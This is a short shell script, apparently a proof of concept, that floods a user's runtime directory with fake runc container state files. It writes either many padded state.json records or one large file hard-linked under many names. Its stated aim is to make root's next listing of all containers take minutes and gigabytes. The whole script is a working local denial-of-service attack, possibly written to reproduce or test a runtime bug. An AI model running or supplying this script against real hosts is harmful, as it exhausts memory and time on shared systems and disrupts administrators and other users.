#!/bin/sh
# A user fills the runtime directory that is theirs, so that root's next look at all containers takes minutes and
# gigabytes.
#
#   flood.sh DIR HOW COUNT BYTES
#
# DIR is /run/user/UID. COUNT records of BYTES each are written; with `links`, one file of BYTES has COUNT names.
set -eu
dir=$1 how=$2 count=$3 bytes=$4

mkdir -p "$dir/runc"
cd "$dir/runc"
seq -f c%.0f 0 $((count - 1)) | xargs mkdir -p
case $how in
records)
	if [ "$bytes" -gt 0 ]; then head -c "$bytes" /dev/zero | tr '\0' ' ' >../blanks; fi
	i=0
	while [ $i -lt "$count" ]; do
		printf '{"id":"c%s","init_process_pid":%s,"init_process_start":1}' $i $((i + 2)) >c$i/state.json
		if [ "$bytes" -gt 0 ]; then cat ../blanks >>c$i/state.json; fi
		i=$((i + 1))
	done
	rm -f ../blanks
	;;
links)
	{ printf '{"id":"x"}'; head -c "$bytes" /dev/zero | tr '\0' ' '; } >../one
	i=0
	while [ $i -lt "$count" ]; do
		echo "../one c$i/state.json"
		i=$((i + 1))
	done | xargs -n 2 ln
	;;
*) echo "no attack $how" >&2; exit 2 ;;
esac
